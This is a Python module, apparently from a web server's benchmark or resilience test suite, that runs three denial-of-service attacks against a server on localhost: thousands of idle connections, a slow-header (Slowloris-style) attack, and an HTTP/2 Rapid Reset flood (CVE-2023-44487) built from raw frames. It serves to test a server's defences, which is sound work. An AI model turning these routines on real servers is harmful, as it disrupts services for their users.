"""An attack, run as a process of its own: `python -m siege.attack KIND PORT` until it is ended.

It writes a line when it has begun. Whatever the server does to its connections, it comes again.
"""

import contextlib
import socket
import struct
import sys
import time
from itertools import count

from spikard_bench.idle import REQUEST, raise_limit

IDLE_CONNECTIONS = 10_000
SLOW_CONNECTIONS = 2_000
RESET_CONNECTIONS = 4
RESETS_AT_ONCE = 100
# HTTP/2 (RFC 9113): types of frames, flags, and a head of the static table of HPACK with a path of our own.
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_END_HEADERS = 5
CANCEL = 8
HEAD = b"\x82\x86\x04\x06/hello\x41\x09localhost"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def idle(port: int) -> None:
    """Connections that have asked once and stay."""
    streams = []
    for _ in range(IDLE_CONNECTIONS):
        stream = socket.create_connection(("127.0.0.1", port), timeout=30)
        stream.sendall(REQUEST)
        if not stream.recv(4096).startswith(b"HTTP/1.1 200"):
            raise SystemExit("an idle connection got no answer")
        streams.append(stream)
    begun()
    while True:
        time.sleep(60)


def slow_heads(port: int) -> None:
    """Heads that never end: one byte of a header for each connection in turn, all of them within a second."""
    streams: list[socket.socket | None] = [None] * SLOW_CONNECTIONS
    for turn in count():
        for index in range(SLOW_CONNECTIONS):
            streams[index] = slower(streams[index], port)
        if turn == 0:
            begun()
        time.sleep(1)


def slower(stream: socket.socket | None, port: int) -> socket.socket | None:
    """One more byte; None when the server has closed the connection, so that the next turn makes another."""
    try:
        if stream is None:
            stream = socket.create_connection(("127.0.0.1", port), timeout=5)
            stream.sendall(b"GET /hello HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        else:
            stream.sendall(b"a")
    except OSError:
        if stream is not None:
            stream.close()
        return None
    return stream


def rapid_resets(port: int) -> None:
    """Streams opened and reset at once, as fast as they can be sent (CVE-2023-44487)."""
    streams: list[tuple[socket.socket, int] | None] = [None] * RESET_CONNECTIONS
    announced = False
    while True:
        for index in range(RESET_CONNECTIONS):
            try:
                stream, number = streams[index] or (besiege(port), 1)
                volley = bytearray()
                for offset in range(RESETS_AT_ONCE):
                    identifier = number + 2 * offset
                    volley += frame(HEADERS, END_STREAM_END_HEADERS, identifier, HEAD)
                    volley += frame(RST_STREAM, 0, identifier, struct.pack("!I", CANCEL))
                stream.sendall(volley)
                # What it answers must not fill the sockets.
                with contextlib.suppress(BlockingIOError):
                    if not stream.recv(65536, socket.MSG_DONTWAIT):
                        raise ConnectionError("closed")
                streams[index] = stream, number + 2 * RESETS_AT_ONCE
            except OSError:
                if (kept := streams[index]) is not None:
                    kept[0].close()
                streams[index] = None
            if not announced:
                announced = True
                begun()


def besiege(port: int) -> socket.socket:
    stream = socket.create_connection(("127.0.0.1", port), timeout=5)
    stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return stream


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def begun() -> None:
    print("begun", flush=True)


ATTACKS = {"idle": idle, "slow": slow_heads, "resets": rapid_resets}

if __name__ == "__main__":
    raise_limit(IDLE_CONNECTIONS + 200)
    ATTACKS[sys.argv[1]](int(sys.argv[2]))
